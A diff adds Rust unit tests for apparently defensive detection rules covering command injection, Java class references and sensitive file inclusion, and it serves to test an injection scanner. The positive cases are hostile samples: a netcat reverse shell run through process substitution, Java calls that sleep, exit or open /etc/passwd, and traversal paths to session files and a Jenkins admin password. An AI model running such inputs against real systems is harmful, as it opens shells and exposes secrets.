@@ -787,3 +787,58 @@ fn unicode_line_breaks_in_arguments() {
         &["嘊嘍 今天", "klíč host: example.com", "čas"],
     );
 }
+
+#[test]
+fn output_substitution_is_not_a_generic_call() {
+    check_rule(
+        "cmdi-substitution",
+        &["tee >(sh)", ";cat<(id)", "x;>(nc -e sh h 1)", "diff <(ls /) x"],
+        &[
+            "function first<T>(xs: T[]): T | undefined { return xs[0]; }",
+            "const m = new Map<string, number>(entries);",
+            "items.map(x =>(x.id))",
+        ],
+    );
+}
+
+#[test]
+fn java_stack_traces_are_not_class_references() {
+    let traces = [
+        "ERROR java.lang.NullPointerException: Cannot invoke \"String.length()\"\n\tat com.example.Foo.bar(Foo.java:42)\n\tat java.base/java.lang.Thread.run(Thread.java:833)",
+        "Caused by: java.io.FileNotFoundException: /opt/app/config/app.yml (No such file or directory)",
+    ];
+    check_rule(
+        "java-class-reference",
+        &[
+            "@java.lang.Thread@sleep(5000)",
+            "java.lang.Thread.sleep(10000)",
+            "new java.io.FileOutputStream(\"/tmp/x\")",
+            "new java.io.File(\"/etc/passwd\")",
+            "new java.io.FileWriter(path)",
+        ],
+        &traces,
+    );
+    check_rule(
+        "java-runtime-keyword",
+        &["java.lang.Thread.sleep(10000)", "java.lang.System.exit(0)"],
+        &traces,
+    );
+}
+
+#[test]
+fn var_lib_only_where_secrets_live() {
+    check_rule(
+        "lfi-sensitive-file",
+        &[
+            "../../../../var/lib/mlocate/mlocate.db",
+            "/var/lib/php/sessions/sess_0123abcd",
+            "/var/lib/php7/sess_0123abcd",
+            "/var/lib/jenkins/secrets/initialAdminPassword",
+            "/var/log/apache2/access.log",
+        ],
+        &[
+            "RUN apt-get update && rm -rf /var/lib/apt/lists/*",
+            "volumes:\n  - /var/lib/postgresql/data:/var/lib/postgresql/data",
+        ],
+    );
+}
